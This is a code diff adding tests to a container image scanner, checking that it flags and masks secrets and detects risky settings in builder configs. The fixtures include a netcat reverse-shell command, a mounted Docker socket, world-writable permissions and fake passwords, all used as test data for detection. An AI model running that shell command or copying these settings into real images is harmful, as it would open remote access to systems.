@@ -105,6 +105,80 @@ test('a password in a URL is masked, also one that is an example', () => {
   expect(textsShown('RUN curl -k https://me:test@x.example/a')[0]).toBe('RUN curl -k https://me:***@x.example/a');
 });
 
+test.each([
+  ['a crypt hash', '$2y$10$N9qo8uLOickgx2ZMRZoMyeIjZAgcfl7p92ldGxad68LJZdL17lhWy'],
+  ['the default of a variable', '$' + '{TOKEN:-abcdef123456}'],
+  ['base64 that starts like a path', '/wJalrXUtnFEMIK7MDENGbPxRfiCYz9k2Qd4Ab12'],
+  ['a variable with more', '$' + 'A-0x/+hunter'],
+])('%s is a secret', (_, secret) => {
+  const { findings } = findBuildCommandRisks(exampleImage(`ENV DB_PASSWORD=${secret}`));
+  expect(findings).toContainEqual(expect.objectContaining({ rule: 'secret-in-env', text: 'ENV DB_PASSWORD=***' }));
+});
+
+test.each([
+  '$' + '{A}_$B',
+  '$' + '{TOKEN:-}',
+  '$' + '{TOKEN:?must be set}',
+  '{{ token }}',
+  '/run/secrets/Db1/password',
+])('%s is none', (value) => {
+  const { findings } = findBuildCommandRisks(exampleImage(`ENV DB_PASSWORD=${value}`));
+  expect(findings.map(({ rule }) => rule)).not.toContain('secret-in-env');
+});
+
+test.each([
+  'echo "password: hunter2-x" > a.yml',
+  `echo '{"token": "hunter2-x"}' > a.json`,
+  `echo '{"auths":{"r":{"auth":"hunter2-x"}}}' > config.json`.replaceAll('hunter2-x', 'aHVudGVyMi14'),
+  'sed -i "s/PASSWORD=.*/PASSWORD=hunter2-x/" f',
+  `sed -i 's#@DB_PASSWORD@#hunter2-x#' f`,
+  `pwsh -c "$env:PASSWORD = 'hunter2-x'"`,
+  `pwsh -c "ConvertTo-SecureString 'hunter2-x' -AsPlainText"`,
+  `PASSWORD=$'hunter2-x\x41' app`,
+  'true # API_TOKEN=hunter2-x',
+])('what stands beside the name of a secret is masked, whatever reads it: %s', (command) => {
+  const [text] = textsShown(`RUN chmod 777 /a; ${command}`);
+  expect(text).toContain('***');
+  expect(text).not.toMatch(/hunter2|aHVud/);
+});
+
+test.each([
+  ['secret-in-env', { env: ['DB_PASSWORD=hunter2-x'] }],
+  ['secret-in-label', { labels: { 'db.password': 'hunter2-x' } }],
+  ['netcat-shell', { entrypoint: ['nc', '-e', '/bin/sh', '10.0.0.1', '4444'] }],
+  ['netcat-shell', { healthcheck: ['CMD-SHELL', 'nc -e /bin/sh 10.0.0.1 4444'] }],
+  ['ssh-port-exposed', { exposedPorts: ['22/tcp'] }],
+  ['docker-socket', { volumes: ['/var/run/docker.sock'] }],
+  ['add-from-url', { onBuild: ['ADD https://x.example/a /a'] }],
+  ['secret-in-env', { onBuild: ['ENV DB_PASSWORD=hunter2-x'] }],
+  ['world-writable', { onBuild: ['COPY --chmod=777 a /a'] }],
+])('%s is found in the config of a builder that records no instructions', (rule, config) => {
+  const jib = {
+    ...image([{ createdBy: 'jib-maven-plugin:3.4.0', author: 'Jib' }]),
+    config: { ...EMPTY_CONFIG, ...config },
+  };
+  const { findings } = findBuildCommandRisks(jib);
+  expect(findings.map((finding) => finding.rule)).toContain(rule);
+  expect(JSON.stringify(findings)).not.toContain('hunter2');
+});
+
+test('a value that Kaniko leaves out of the history is found in the config', () => {
+  const kaniko = image([{ createdBy: 'ENV DB_PASSWORD=$DB_PASSWORD', author: 'kaniko', emptyLayer: true }]);
+  const { findings } = findBuildCommandRisks({
+    ...kaniko,
+    config: { ...EMPTY_CONFIG, env: ['DB_PASSWORD=hunter2-x'] },
+  });
+  expect(findings).toContainEqual(
+    expect.objectContaining({ rule: 'secret-in-env', index: 1, text: 'ENV DB_PASSWORD=***' }),
+  );
+});
+
+test('too many commands in a config are a problem', () => {
+  const config = { ...EMPTY_CONFIG, onBuild: Array.from({ length: 5 }, () => `RUN ${'a'.repeat(60_000)}`) };
+  const { problems } = findBuildCommandRisks({ ...image([{ createdBy: 'COPY a /' }]), config });
+  expect(problems).toEqual(['1 words of config.onBuild were not looked at']);
+});
+
 test('long texts are cut and say so', () => {
   const { findings } = findBuildCommandRisks(exampleImage(`USER a\nRUN curl -k https://x.example/${'a'.repeat(4000)}`));
   expect(findings[0]?.cut).toBe(true);
